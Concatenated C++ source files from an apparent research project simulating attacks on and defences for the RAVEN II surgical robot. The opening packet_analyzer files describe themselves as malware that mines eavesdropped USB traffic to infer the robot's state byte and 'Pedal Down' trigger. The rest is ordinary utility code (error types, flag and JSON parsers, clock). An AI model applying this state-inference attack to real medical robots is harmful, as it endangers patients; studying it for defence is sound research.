    // Masked cardinality and transition count.
    const std::uint8_t keep = static_cast<std::uint8_t>(~mask);
    std::bitset<256> seen_masked;
    std::size_t masked_transitions = 0;
    std::uint8_t prev_masked = capture_.front().bytes[b] & keep;
    seen_masked.set(prev_masked);
    for (std::size_t i = 1; i < n; ++i) {
      const std::uint8_t cur = capture_[i].bytes[b] & keep;
      seen_masked.set(cur);
      if (cur != prev_masked) ++masked_transitions;
      prev_masked = cur;
    }
    prof.distinct_after_mask = seen_masked.count();
    prof.transitions_after_mask = masked_transitions;
  }
}

Result<StateInference> PacketAnalyzer::infer_state() const {
  // Candidate state bytes: small masked cardinality (2..8 values — the
  // state machine has few states), few masked transitions (states dwell
  // for long stretches), not constant.
  std::size_t best = std::numeric_limits<std::size_t>::max();
  double best_score = std::numeric_limits<double>::max();
  for (const ByteProfile& prof : profiles_) {
    if (prof.constant) continue;
    if (prof.distinct_after_mask < 2 || prof.distinct_after_mask > 8) continue;
    if (prof.transitions_after_mask + 1 > 8 * prof.distinct_after_mask) continue;
    // Prefer fewer masked values, then fewer transitions.
    const double score = static_cast<double>(prof.distinct_after_mask) * 1000.0 +
                         static_cast<double>(prof.transitions_after_mask);
    if (score < best_score) {
      best_score = score;
      best = prof.index;
    }
  }
  if (best == std::numeric_limits<std::size_t>::max()) {
    return Error{ErrorCode::kNotReady, "no byte position looks like a state byte"};
  }

  const ByteProfile& prof = profiles_[best];
  const std::uint8_t keep = static_cast<std::uint8_t>(~prof.toggling_mask);

  StateInference out;
  out.state_byte_index = best;
  out.watchdog_mask = prof.toggling_mask;

  // Timeline + order of first appearance.
  std::array<bool, 256> seen{};
  std::uint8_t cur = capture_.front().bytes[best] & keep;
  StateSegment seg{capture_.front().tick, capture_.front().tick, cur};
  seen[cur] = true;
  out.codes_in_order.push_back(cur);
  for (std::size_t i = 1; i < capture_.size(); ++i) {
    const std::uint8_t v = capture_[i].bytes[best] & keep;
    const std::uint64_t tick = capture_[i].tick;
    if (v == cur) {
      seg.end_tick = tick;
      continue;
    }
    out.timeline.push_back(seg);
    cur = v;
    seg = StateSegment{tick, tick, cur};
    if (!seen[v]) {
      seen[v] = true;
      out.codes_in_order.push_back(v);
    }
  }
  out.timeline.push_back(seg);

  // Combine with the publicly documented state machine: a full run walks
  // E-STOP -> Init -> Pedal Up -> Pedal Down, so the 4th code to appear
  // is the engaged ("Pedal Down") trigger.
  if (out.codes_in_order.size() < 4) {
    return Error{ErrorCode::kNotReady,
                 "fewer than 4 states observed; capture a full teleoperation run"};
  }
  out.pedal_down_code = out.codes_in_order[3];
  return out;
}

}  // namespace rg
