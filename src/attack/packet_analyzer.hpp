// Offline-analysis-phase malware: mining eavesdropped USB packets for the
// robot's operational state (paper Sec. III.B.2, Figs. 5 and 6).
//
// The attacker does not know the packet format.  The analysis looks at
// each byte position over time: most bytes are either constant or noisy
// many-valued (DAC data), but one byte has a small set of values — the
// state byte — plus one bit toggling at ~50% duty (the watchdog square
// wave).  Stripping the toggling bit leaves exactly the four operational
// states; combining value order-of-appearance with the publicly known
// state machine (E-STOP -> Init -> Pedal Up <-> Pedal Down) yields the
// Pedal-Down trigger value.
#pragma once

#include <cstdint>
#include <vector>

#include "attack/logging_wrapper.hpp"
#include "common/error.hpp"

namespace rg {

/// Per-byte-position statistics over a capture.
struct ByteProfile {
  std::size_t index = 0;
  std::size_t distinct_values = 0;        ///< raw cardinality
  std::uint8_t toggling_mask = 0;         ///< bits flagged as periodic toggles
  std::size_t distinct_after_mask = 0;    ///< cardinality with toggling bits stripped
  std::size_t transitions_after_mask = 0; ///< value changes over time (masked)
  bool constant = false;
};

/// A contiguous stretch of one masked state-byte value.
struct StateSegment {
  std::uint64_t start_tick = 0;
  std::uint64_t end_tick = 0;  ///< inclusive
  std::uint8_t code = 0;       ///< masked byte value
};

struct StateInference {
  std::size_t state_byte_index = 0;
  std::uint8_t watchdog_mask = 0;
  /// Masked state codes ordered by first appearance.
  std::vector<std::uint8_t> codes_in_order;
  /// Timeline of masked-value segments.
  std::vector<StateSegment> timeline;
  /// The inferred "robot is engaged" trigger: with the known state
  /// machine, the 4th state to appear in a full run is Pedal Down.
  std::uint8_t pedal_down_code = 0;
};

class PacketAnalyzer {
 public:
  /// All packets must share one length (one endpoint's traffic).
  explicit PacketAnalyzer(std::vector<CapturedPacket> capture);

  /// Per-byte statistics (the Fig. 5 data).
  [[nodiscard]] const std::vector<ByteProfile>& byte_profiles() const noexcept {
    return profiles_;
  }

  /// Identify the state byte, the watchdog bit, and the Pedal-Down
  /// trigger value (the Fig. 6 inference).  Fails when no byte looks like
  /// a state byte or fewer than 4 states were observed.
  [[nodiscard]] Result<StateInference> infer_state() const;

  [[nodiscard]] std::size_t packet_count() const noexcept { return capture_.size(); }
  [[nodiscard]] std::size_t packet_size() const noexcept { return packet_size_; }

 private:
  std::vector<CapturedPacket> capture_;
  std::size_t packet_size_ = 0;
  std::vector<ByteProfile> profiles_;
};

}  // namespace rg
