// Simulation time base.
//
// The whole system is driven by a discrete simulation clock with a 1 ms
// control tick (the RAVEN II operational cycle).  Time is carried as an
// integer tick count plus a seconds value to avoid floating-point drift
// over long runs.
#pragma once

#include <cstdint>

namespace rg {

/// The RAVEN II control period: 1 millisecond (1 kHz software loop).
inline constexpr double kControlPeriodSec = 1.0e-3;

/// Discrete simulation clock.  One tick == one control period.
class SimClock {
 public:
  SimClock() = default;

  /// Advance one control tick.
  void tick() noexcept { ++ticks_; }

  /// Number of elapsed control ticks.
  [[nodiscard]] std::uint64_t ticks() const noexcept { return ticks_; }

  /// Elapsed simulated seconds.
  [[nodiscard]] double seconds() const noexcept {
    return static_cast<double>(ticks_) * kControlPeriodSec;
  }

  /// Elapsed simulated milliseconds.
  [[nodiscard]] double millis() const noexcept {
    return static_cast<double>(ticks_);
  }

  void reset() noexcept { ticks_ = 0; }

 private:
  std::uint64_t ticks_ = 0;
};

}  // namespace rg
