// Lightweight error-handling vocabulary for the raven_guard libraries.
//
// The control stack runs inside a hard 1 ms real-time loop, so we avoid
// exceptions on hot paths and instead return Result<T> values.  Exceptions
// are still used for programming errors (contract violations) during
// construction and configuration, where they are cheap and appropriate.
#pragma once

#include <cstdint>
#include <optional>
#include <stdexcept>
#include <string>
#include <string_view>
#include <utility>
#include <variant>

#include "common/realtime.hpp"

namespace rg {

/// Broad error categories used across modules.  The numeric values are
/// wire values (they appear in telemetry snapshots and the event log), so
/// they are explicit and append-only: never renumber, never reuse.
/// tools/rg_lint checks that every enumerator has a distinct value and a
/// to_string entry.
enum class ErrorCode : std::uint8_t {
  kInvalidArgument = 0,
  kOutOfRange = 1,
  kMalformedPacket = 2,
  kChecksumMismatch = 3,
  kMalformedFlags = 4,  // reserved/undefined protocol flag bits set
  kSafetyViolation = 5,
  kNotReady = 6,
  kUnreachable = 7,  // IK target outside workspace
  kTimeout = 8,
  kInternal = 9,
};

/// Human-readable name for an ErrorCode.
constexpr std::string_view to_string(ErrorCode code) noexcept {
  switch (code) {
    case ErrorCode::kInvalidArgument: return "invalid_argument";
    case ErrorCode::kOutOfRange: return "out_of_range";
    case ErrorCode::kMalformedPacket: return "malformed_packet";
    case ErrorCode::kChecksumMismatch: return "checksum_mismatch";
    case ErrorCode::kMalformedFlags: return "malformed_flags";
    case ErrorCode::kSafetyViolation: return "safety_violation";
    case ErrorCode::kNotReady: return "not_ready";
    case ErrorCode::kUnreachable: return "unreachable";
    case ErrorCode::kTimeout: return "timeout";
    case ErrorCode::kInternal: return "internal";
  }
  return "unknown";
}

/// An error value: a code plus a short static-or-owned message.
class Error {
 public:
  Error(ErrorCode code, std::string message)
      : code_(code), message_(std::move(message)) {}

  [[nodiscard]] ErrorCode code() const noexcept { return code_; }
  [[nodiscard]] const std::string& message() const noexcept { return message_; }

  [[nodiscard]] std::string to_string() const {
    std::string s{rg::to_string(code_)};
    s += ": ";
    s += message_;
    return s;
  }

 private:
  ErrorCode code_;
  std::string message_;
};

/// Minimal expected-like result type (std::expected is C++23; we target
/// C++20).  Holds either a value or an Error.
template <typename T>
class [[nodiscard]] Result {
 public:
  Result(T value) : data_(std::move(value)) {}          // NOLINT(google-explicit-constructor)
  Result(Error error) : data_(std::move(error)) {}      // NOLINT(google-explicit-constructor)

  [[nodiscard]] RG_REALTIME bool ok() const noexcept {
    return std::holds_alternative<T>(data_);
  }
  explicit operator bool() const noexcept { return ok(); }

  // The value() accessors are hot-path: callers check ok() first, so the
  // throw below is unreachable there and exists only to turn a contract
  // violation into a loud failure instead of UB.
  [[nodiscard]] RG_REALTIME const T& value() const& {
    // rg-lint: allow(throw) -- unreachable after ok() check
    if (!ok()) throw std::logic_error("Result::value() on error: " + error().to_string());
    return std::get<T>(data_);
  }
  [[nodiscard]] RG_REALTIME T& value() & {
    // rg-lint: allow(throw) -- unreachable after ok() check
    if (!ok()) throw std::logic_error("Result::value() on error: " + error().to_string());
    return std::get<T>(data_);
  }
  [[nodiscard]] RG_REALTIME T&& value() && {
    // rg-lint: allow(throw) -- unreachable after ok() check
    if (!ok()) throw std::logic_error("Result::value() on error: " + error().to_string());
    return std::get<T>(std::move(data_));
  }

  [[nodiscard]] RG_REALTIME const Error& error() const& {
    return std::get<Error>(data_);
  }

  [[nodiscard]] T value_or(T fallback) const& {
    return ok() ? std::get<T>(data_) : std::move(fallback);
  }

 private:
  std::variant<T, Error> data_;
};

/// Result specialization-flavoured alias for operations with no payload.
class [[nodiscard]] Status {
 public:
  Status() = default;  // success
  Status(Error error) : error_(std::move(error)) {}  // NOLINT(google-explicit-constructor)

  [[nodiscard]] RG_REALTIME bool ok() const noexcept { return !error_.has_value(); }
  explicit operator bool() const noexcept { return ok(); }

  [[nodiscard]] RG_REALTIME const Error& error() const {
    // rg-lint: allow(throw) -- unreachable after ok() check
    if (ok()) throw std::logic_error("Status::error() on ok status");
    return *error_;
  }

  RG_REALTIME static Status success() { return Status{}; }

 private:
  std::optional<Error> error_;
};

/// Contract-violation helper: throws std::invalid_argument.  Used at
/// configuration/construction time, never on the 1 kHz hot path.
inline void require(bool condition, std::string_view what) {
  if (!condition) throw std::invalid_argument(std::string{what});
}

}  // namespace rg
