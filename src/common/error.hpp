// Lightweight error-handling vocabulary for the raven_guard libraries.
//
// The control stack runs inside a hard 1 ms real-time loop, so we avoid
// exceptions on hot paths and instead return Result<T> values.  Exceptions
// are still used for programming errors (contract violations) during
// construction and configuration, where they are cheap and appropriate.
#pragma once

#include <cstdint>
#include <optional>
#include <stdexcept>
#include <string>
#include <string_view>
#include <utility>
#include <variant>

namespace rg {

/// Broad error categories used across modules.
enum class ErrorCode : std::uint8_t {
  kInvalidArgument,
  kOutOfRange,
  kMalformedPacket,
  kChecksumMismatch,
  kMalformedFlags,  // reserved/undefined protocol flag bits set
  kSafetyViolation,
  kNotReady,
  kUnreachable,   // IK target outside workspace
  kTimeout,
  kInternal,
};

/// Human-readable name for an ErrorCode.
constexpr std::string_view to_string(ErrorCode code) noexcept {
  switch (code) {
    case ErrorCode::kInvalidArgument: return "invalid_argument";
    case ErrorCode::kOutOfRange: return "out_of_range";
    case ErrorCode::kMalformedPacket: return "malformed_packet";
    case ErrorCode::kChecksumMismatch: return "checksum_mismatch";
    case ErrorCode::kMalformedFlags: return "malformed_flags";
    case ErrorCode::kSafetyViolation: return "safety_violation";
    case ErrorCode::kNotReady: return "not_ready";
    case ErrorCode::kUnreachable: return "unreachable";
    case ErrorCode::kTimeout: return "timeout";
    case ErrorCode::kInternal: return "internal";
  }
  return "unknown";
}

/// An error value: a code plus a short static-or-owned message.
class Error {
 public:
  Error(ErrorCode code, std::string message)
      : code_(code), message_(std::move(message)) {}

  [[nodiscard]] ErrorCode code() const noexcept { return code_; }
  [[nodiscard]] const std::string& message() const noexcept { return message_; }

  [[nodiscard]] std::string to_string() const {
    std::string s{rg::to_string(code_)};
    s += ": ";
    s += message_;
    return s;
  }

 private:
  ErrorCode code_;
  std::string message_;
};

/// Minimal expected-like result type (std::expected is C++23; we target
/// C++20).  Holds either a value or an Error.
template <typename T>
class [[nodiscard]] Result {
 public:
  Result(T value) : data_(std::move(value)) {}          // NOLINT(google-explicit-constructor)
  Result(Error error) : data_(std::move(error)) {}      // NOLINT(google-explicit-constructor)

  [[nodiscard]] bool ok() const noexcept {
    return std::holds_alternative<T>(data_);
  }
  explicit operator bool() const noexcept { return ok(); }

  [[nodiscard]] const T& value() const& {
    if (!ok()) throw std::logic_error("Result::value() on error: " + error().to_string());
    return std::get<T>(data_);
  }
  [[nodiscard]] T& value() & {
    if (!ok()) throw std::logic_error("Result::value() on error: " + error().to_string());
    return std::get<T>(data_);
  }
  [[nodiscard]] T&& value() && {
    if (!ok()) throw std::logic_error("Result::value() on error: " + error().to_string());
    return std::get<T>(std::move(data_));
  }

  [[nodiscard]] const Error& error() const& {
    return std::get<Error>(data_);
  }

  [[nodiscard]] T value_or(T fallback) const& {
    return ok() ? std::get<T>(data_) : std::move(fallback);
  }

 private:
  std::variant<T, Error> data_;
};

/// Result specialization-flavoured alias for operations with no payload.
class [[nodiscard]] Status {
 public:
  Status() = default;  // success
  Status(Error error) : error_(std::move(error)) {}  // NOLINT(google-explicit-constructor)

  [[nodiscard]] bool ok() const noexcept { return !error_.has_value(); }
  explicit operator bool() const noexcept { return ok(); }

  [[nodiscard]] const Error& error() const {
    if (ok()) throw std::logic_error("Status::error() on ok status");
    return *error_;
  }

  static Status success() { return Status{}; }

 private:
  std::optional<Error> error_;
};

/// Contract-violation helper: throws std::invalid_argument.  Used at
/// configuration/construction time, never on the 1 kHz hot path.
inline void require(bool condition, std::string_view what) {
  if (!condition) throw std::invalid_argument(std::string{what});
}

}  // namespace rg
