#include "common/flags.hpp"

#include <algorithm>
#include <cerrno>
#include <cstdlib>
#include <sstream>
#include <utility>

namespace rg {

namespace {

// strto* wrappers that reject trailing junk and range errors.
bool parse_double(const char* s, double* out) {
  errno = 0;
  char* end = nullptr;
  const double v = std::strtod(s, &end);
  if (errno != 0 || end == s || *end != '\0') return false;
  *out = v;
  return true;
}

bool parse_u64(const char* s, std::uint64_t* out) {
  errno = 0;
  char* end = nullptr;
  const unsigned long long v = std::strtoull(s, &end, 10);
  if (errno != 0 || end == s || *end != '\0' || s[0] == '-') return false;
  *out = static_cast<std::uint64_t>(v);
  return true;
}

}  // namespace

void FlagSet::add(Spec spec) { specs_.push_back(std::move(spec)); }

void FlagSet::flag(std::string name, bool* target, std::string help) {
  add(Spec{std::move(name), std::move(help), false, [target](const char*) {
             *target = true;
             return true;
           }});
}

void FlagSet::value(std::string name, std::string* target, std::string help) {
  add(Spec{std::move(name), std::move(help), true, [target](const char* v) {
             *target = v;
             return true;
           }});
}

void FlagSet::value(std::string name, double* target, std::string help) {
  add(Spec{std::move(name), std::move(help), true,
           [target](const char* v) { return parse_double(v, target); }});
}

void FlagSet::value(std::string name, int* target, std::string help) {
  add(Spec{std::move(name), std::move(help), true, [target](const char* v) {
             double d = 0.0;
             if (!parse_double(v, &d) || d != static_cast<int>(d)) return false;
             *target = static_cast<int>(d);
             return true;
           }});
}

void FlagSet::value(std::string name, std::uint32_t* target, std::string help) {
  add(Spec{std::move(name), std::move(help), true, [target](const char* v) {
             std::uint64_t u = 0;
             if (!parse_u64(v, &u) || u > 0xFFFFFFFFULL) return false;
             *target = static_cast<std::uint32_t>(u);
             return true;
           }});
}

void FlagSet::value(std::string name, std::uint64_t* target, std::string help) {
  add(Spec{std::move(name), std::move(help), true,
           [target](const char* v) { return parse_u64(v, target); }});
}

Status FlagSet::parse(int argc, char** argv, int first) const {
  for (int i = first; i < argc; ++i) {
    const std::string token = argv[i];
    const auto spec = std::find_if(specs_.begin(), specs_.end(),
                                   [&token](const Spec& s) { return s.name == token; });
    if (spec == specs_.end()) {
      return Error(ErrorCode::kInvalidArgument, "unknown option: " + token);
    }
    const char* value = nullptr;
    if (spec->takes_value) {
      if (i + 1 >= argc) {
        return Error(ErrorCode::kInvalidArgument, token + " requires a value");
      }
      value = argv[++i];
    }
    if (!spec->apply(value)) {
      return Error(ErrorCode::kInvalidArgument,
                   "bad value for " + token + ": '" + (value ? value : "") + "'");
    }
  }
  return Status::success();
}

std::string FlagSet::help() const {
  std::size_t width = 0;
  for (const Spec& s : specs_) {
    width = std::max(width, s.name.size() + (s.takes_value ? 8 : 0));
  }
  std::ostringstream os;
  for (const Spec& s : specs_) {
    std::string left = s.name + (s.takes_value ? " <value>" : "");
    left.resize(std::max(width, left.size()), ' ');
    os << "  " << left << "  " << s.help << '\n';
  }
  return os.str();
}

}  // namespace rg
