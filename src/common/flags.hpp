// Minimal declarative command-line flag parser for the tools.
//
// Replaces the ad-hoc argv walks: a subcommand declares its flags once
// (name, target, help), gets uniform "--flag value" / boolean "--flag"
// parsing with explicit errors, and a generated, aligned help listing —
// so shared flags like --jobs/--seed/--runs/--json behave identically
// across subcommands.
#pragma once

#include <cstdint>
#include <functional>
#include <string>
#include <vector>

#include "common/error.hpp"

namespace rg {

class FlagSet {
 public:
  /// Boolean switch: present => true.  No value consumed.
  void flag(std::string name, bool* target, std::string help);

  // Value flags: "--name <value>".  Parse errors name the flag.
  void value(std::string name, std::string* target, std::string help);
  void value(std::string name, double* target, std::string help);
  void value(std::string name, int* target, std::string help);
  void value(std::string name, std::uint32_t* target, std::string help);
  void value(std::string name, std::uint64_t* target, std::string help);

  /// Parse argv[first..argc).  Every token must be a declared flag (plus
  /// its value, for value flags); anything else is an explicit error.
  [[nodiscard]] Status parse(int argc, char** argv, int first = 2) const;

  /// Aligned "  --flag <value>   help" listing for usage text.
  [[nodiscard]] std::string help() const;

 private:
  struct Spec {
    std::string name;
    std::string help;
    bool takes_value = false;
    // Applies the (possibly null) value string; false => parse failure.
    std::function<bool(const char*)> apply;
  };
  void add(Spec spec);

  std::vector<Spec> specs_;
};

}  // namespace rg
