// Minimal recursive-descent JSON parser (header-only, no dependencies
// beyond the error vocabulary).
//
// The telemetry plane speaks JSON in both directions: the admin endpoint
// renders `rg.admin.stats/1` and `rg.metrics.live/1` documents, and
// tools/raven_top.cpp parses them back to compute rates.  This parser
// covers exactly RFC 8259 minus \uXXXX surrogate pairs outside the BMP
// (escapes decode to UTF-8; lone surrogates are replaced) — enough to
// round-trip every document this tree emits, with strict error reporting
// so a truncated or corrupted response is a loud kMalformedPacket, never
// a silently wrong number.
//
// Objects are std::map (sorted keys), so re-serialization and iteration
// are deterministic.  Numbers are stored as double — the documents this
// tree emits keep counters well inside the 2^53 exact-integer range per
// snapshot interval; exact 64-bit folds (digests) travel as hex strings.
#pragma once

#include <cstddef>
#include <cstdint>
#include <exception>
#include <map>
#include <string>
#include <string_view>
#include <variant>
#include <vector>

#include "common/error.hpp"

namespace rg::json {

class Value;
using Array = std::vector<Value>;
using Object = std::map<std::string, Value>;

class Value {
 public:
  using Data = std::variant<std::nullptr_t, bool, double, std::string, Array, Object>;

  Value() : data_(nullptr) {}
  Value(std::nullptr_t) : data_(nullptr) {}           // NOLINT(google-explicit-constructor)
  Value(bool b) : data_(b) {}                         // NOLINT(google-explicit-constructor)
  Value(double d) : data_(d) {}                       // NOLINT(google-explicit-constructor)
  Value(std::string s) : data_(std::move(s)) {}       // NOLINT(google-explicit-constructor)
  Value(Array a) : data_(std::move(a)) {}             // NOLINT(google-explicit-constructor)
  Value(Object o) : data_(std::move(o)) {}            // NOLINT(google-explicit-constructor)

  [[nodiscard]] bool is_null() const noexcept { return std::holds_alternative<std::nullptr_t>(data_); }
  [[nodiscard]] bool is_bool() const noexcept { return std::holds_alternative<bool>(data_); }
  [[nodiscard]] bool is_number() const noexcept { return std::holds_alternative<double>(data_); }
  [[nodiscard]] bool is_string() const noexcept { return std::holds_alternative<std::string>(data_); }
  [[nodiscard]] bool is_array() const noexcept { return std::holds_alternative<Array>(data_); }
  [[nodiscard]] bool is_object() const noexcept { return std::holds_alternative<Object>(data_); }

  [[nodiscard]] bool as_bool(bool fallback = false) const noexcept {
    const bool* b = std::get_if<bool>(&data_);
    return b != nullptr ? *b : fallback;
  }
  [[nodiscard]] double as_number(double fallback = 0.0) const noexcept {
    const double* d = std::get_if<double>(&data_);
    return d != nullptr ? *d : fallback;
  }
  [[nodiscard]] std::uint64_t as_u64(std::uint64_t fallback = 0) const noexcept {
    const double* d = std::get_if<double>(&data_);
    if (d == nullptr || *d < 0.0 || *d != *d) return fallback;
    return static_cast<std::uint64_t>(*d);
  }
  [[nodiscard]] const std::string& as_string() const noexcept {
    static const std::string kEmpty;
    const std::string* s = std::get_if<std::string>(&data_);
    return s != nullptr ? *s : kEmpty;
  }
  [[nodiscard]] const Array& as_array() const noexcept {
    static const Array kEmpty;
    const Array* a = std::get_if<Array>(&data_);
    return a != nullptr ? *a : kEmpty;
  }
  [[nodiscard]] const Object& as_object() const noexcept {
    static const Object kEmpty;
    const Object* o = std::get_if<Object>(&data_);
    return o != nullptr ? *o : kEmpty;
  }

  /// Object member lookup; nullptr when not an object or key absent.
  [[nodiscard]] const Value* find(std::string_view key) const noexcept {
    const Object* o = std::get_if<Object>(&data_);
    if (o == nullptr) return nullptr;
    const auto it = o->find(std::string(key));
    return it != o->end() ? &it->second : nullptr;
  }

  [[nodiscard]] const Data& data() const noexcept { return data_; }

 private:
  Data data_;
};

namespace detail {

#if defined(__GNUC__) && !defined(__clang__)
// GCC 12's -Wmaybe-uninitialized misfires on moved-from variant
// temporaries that hold vector/map alternatives (the flagged paths are
// fully initialized); scoped to the parser, where those moves happen.
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wmaybe-uninitialized"
#endif

/// Parser state over the input; all depth/length limits live here.
struct Parser {
  std::string_view text;
  std::size_t pos = 0;
  int depth = 0;
  static constexpr int kMaxDepth = 64;

  [[nodiscard]] bool eof() const noexcept { return pos >= text.size(); }
  [[nodiscard]] char peek() const noexcept { return text[pos]; }

  void skip_ws() noexcept {
    while (!eof()) {
      const char c = text[pos];
      if (c != ' ' && c != '\t' && c != '\n' && c != '\r') break;
      ++pos;
    }
  }

  [[nodiscard]] Error err(const std::string& what) const {
    return Error(ErrorCode::kMalformedPacket,
                 "json: " + what + " at offset " + std::to_string(pos));
  }

  [[nodiscard]] bool consume(std::string_view word) noexcept {
    if (text.substr(pos, word.size()) != word) return false;
    pos += word.size();
    return true;
  }

  Result<Value> value() {  // NOLINT(misc-no-recursion)
    if (++depth > kMaxDepth) return err("nesting deeper than 64");
    struct DepthGuard {
      int& d;
      ~DepthGuard() { --d; }
    } guard{depth};
    skip_ws();
    if (eof()) return err("unexpected end of input");
    switch (peek()) {
      case '{': return object();
      case '[': return array();
      case '"': {
        Result<std::string> s = string();
        if (!s.ok()) return s.error();
        return Value(std::move(s.value()));
      }
      case 't': return consume("true") ? Result<Value>(Value(true)) : err("bad literal");
      case 'f': return consume("false") ? Result<Value>(Value(false)) : err("bad literal");
      case 'n': return consume("null") ? Result<Value>(Value(nullptr)) : err("bad literal");
      default: return number();
    }
  }

  Result<Value> object() {  // NOLINT(misc-no-recursion)
    ++pos;  // '{'
    Object out;
    skip_ws();
    if (!eof() && peek() == '}') {
      ++pos;
      return Value(std::move(out));
    }
    while (true) {
      skip_ws();
      if (eof() || peek() != '"') return err("expected object key");
      Result<std::string> key = string();
      if (!key.ok()) return key.error();
      skip_ws();
      if (eof() || peek() != ':') return err("expected ':'");
      ++pos;
      Result<Value> v = value();
      if (!v.ok()) return v.error();
      out.insert_or_assign(std::move(key.value()), std::move(v.value()));
      skip_ws();
      if (eof()) return err("unterminated object");
      if (peek() == ',') {
        ++pos;
        continue;
      }
      if (peek() == '}') {
        ++pos;
        return Value(std::move(out));
      }
      return err("expected ',' or '}'");
    }
  }

  Result<Value> array() {  // NOLINT(misc-no-recursion)
    ++pos;  // '['
    Array out;
    skip_ws();
    if (!eof() && peek() == ']') {
      ++pos;
      return Value(std::move(out));
    }
    while (true) {
      Result<Value> v = value();
      if (!v.ok()) return v.error();
      out.push_back(std::move(v.value()));
      skip_ws();
      if (eof()) return err("unterminated array");
      if (peek() == ',') {
        ++pos;
        continue;
      }
      if (peek() == ']') {
        ++pos;
        return Value(std::move(out));
      }
      return err("expected ',' or ']'");
    }
  }

  Result<std::string> string() {
    ++pos;  // opening quote
    std::string out;
    while (true) {
      if (eof()) return err("unterminated string");
      const char c = text[pos];
      if (static_cast<unsigned char>(c) < 0x20) return err("raw control character in string");
      ++pos;
      if (c == '"') return out;
      if (c != '\\') {
        out += c;
        continue;
      }
      if (eof()) return err("unterminated escape");
      const char e = text[pos++];
      switch (e) {
        case '"': out += '"'; break;
        case '\\': out += '\\'; break;
        case '/': out += '/'; break;
        case 'b': out += '\b'; break;
        case 'f': out += '\f'; break;
        case 'n': out += '\n'; break;
        case 'r': out += '\r'; break;
        case 't': out += '\t'; break;
        case 'u': {
          std::uint32_t cp = 0;
          if (!hex4(cp)) return err("bad \\u escape");
          // Surrogate pair (rare in our documents): decode when complete,
          // substitute U+FFFD for a lone half.
          if (cp >= 0xD800 && cp <= 0xDBFF && pos + 1 < text.size() && text[pos] == '\\' &&
              text[pos + 1] == 'u') {
            pos += 2;
            std::uint32_t lo = 0;
            if (!hex4(lo)) return err("bad \\u escape");
            if (lo >= 0xDC00 && lo <= 0xDFFF) {
              cp = 0x10000 + ((cp - 0xD800) << 10) + (lo - 0xDC00);
            } else {
              cp = 0xFFFD;
            }
          } else if (cp >= 0xD800 && cp <= 0xDFFF) {
            cp = 0xFFFD;
          }
          append_utf8(out, cp);
          break;
        }
        default: return err("unknown escape");
      }
    }
  }

  [[nodiscard]] bool hex4(std::uint32_t& out) noexcept {
    if (pos + 4 > text.size()) return false;
    out = 0;
    for (int i = 0; i < 4; ++i) {
      const char c = text[pos++];
      out <<= 4;
      if (c >= '0' && c <= '9') {
        out |= static_cast<std::uint32_t>(c - '0');
      } else if (c >= 'a' && c <= 'f') {
        out |= static_cast<std::uint32_t>(c - 'a' + 10);
      } else if (c >= 'A' && c <= 'F') {
        out |= static_cast<std::uint32_t>(c - 'A' + 10);
      } else {
        return false;
      }
    }
    return true;
  }

  static void append_utf8(std::string& out, std::uint32_t cp) {
    if (cp < 0x80) {
      out += static_cast<char>(cp);
    } else if (cp < 0x800) {
      out += static_cast<char>(0xC0 | (cp >> 6));
      out += static_cast<char>(0x80 | (cp & 0x3F));
    } else if (cp < 0x10000) {
      out += static_cast<char>(0xE0 | (cp >> 12));
      out += static_cast<char>(0x80 | ((cp >> 6) & 0x3F));
      out += static_cast<char>(0x80 | (cp & 0x3F));
    } else {
      out += static_cast<char>(0xF0 | (cp >> 18));
      out += static_cast<char>(0x80 | ((cp >> 12) & 0x3F));
      out += static_cast<char>(0x80 | ((cp >> 6) & 0x3F));
      out += static_cast<char>(0x80 | (cp & 0x3F));
    }
  }

  Result<Value> number() {
    const std::size_t start = pos;
    if (!eof() && peek() == '-') ++pos;
    while (!eof() && peek() >= '0' && peek() <= '9') ++pos;
    if (!eof() && peek() == '.') {
      ++pos;
      while (!eof() && peek() >= '0' && peek() <= '9') ++pos;
    }
    if (!eof() && (peek() == 'e' || peek() == 'E')) {
      ++pos;
      if (!eof() && (peek() == '+' || peek() == '-')) ++pos;
      while (!eof() && peek() >= '0' && peek() <= '9') ++pos;
    }
    if (pos == start || (pos == start + 1 && text[start] == '-')) return err("expected value");
    // std::stod on a bounded, digit-checked slice; the copy is tiny.
    const std::string slice(text.substr(start, pos - start));
    try {
      std::size_t used = 0;
      const double d = std::stod(slice, &used);
      if (used != slice.size()) return err("malformed number");
      return Value(d);
    } catch (const std::exception&) {
      return err("malformed number");
    }
  }
};

#if defined(__GNUC__) && !defined(__clang__)
#pragma GCC diagnostic pop
#endif

}  // namespace detail

/// Parse one complete JSON document; trailing non-whitespace is an error.
[[nodiscard]] inline Result<Value> parse(std::string_view text) {
  detail::Parser p{text};
  Result<Value> v = p.value();
  if (!v.ok()) return v;
  p.skip_ws();
  if (!p.eof()) return p.err("trailing characters after document");
  return v;
}

/// Serialize a string with the escaping rules the obs serializers use.
inline void append_quoted(std::string& out, std::string_view s) {
  out += '"';
  for (const char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\t': out += "\\t"; break;
      case '\r': out += "\\r"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          constexpr char kHex[] = "0123456789abcdef";
          out += "\\u00";
          out += kHex[(static_cast<unsigned char>(c) >> 4) & 0xF];
          out += kHex[static_cast<unsigned char>(c) & 0xF];
        } else {
          out += c;
        }
    }
  }
  out += '"';
}

}  // namespace rg::json
