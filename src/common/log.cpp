#include "common/log.hpp"

#include <cstdio>
#include <string>

#include "obs/events.hpp"
#include "obs/metrics.hpp"
#include "obs/span.hpp"

namespace rg::detail {

std::atomic<int>& log_level_storage() noexcept {
  static std::atomic<int> level{static_cast<int>(LogLevel::kWarn)};
  return level;
}

namespace {

constexpr const char* level_name(LogLevel level) noexcept {
  switch (level) {
    case LogLevel::kDebug: return "DEBUG";
    case LogLevel::kInfo: return "INFO ";
    case LogLevel::kWarn: return "WARN ";
    case LogLevel::kError: return "ERROR";
    case LogLevel::kOff: return "OFF  ";
  }
  return "?????";
}

constexpr const char* level_slug(LogLevel level) noexcept {
  switch (level) {
    case LogLevel::kDebug: return "debug";
    case LogLevel::kInfo: return "info";
    case LogLevel::kWarn: return "warn";
    case LogLevel::kError: return "error";
    case LogLevel::kOff: return "off";
  }
  return "unknown";
}

/// Monotonic seconds since the first log line of the process.
double uptime_sec() noexcept {
  static const std::uint64_t epoch_ns = obs::monotonic_ns();
  return static_cast<double>(obs::monotonic_ns() - epoch_ns) * 1.0e-9;
}

}  // namespace

void log_emit(LogLevel level, std::string_view message) {
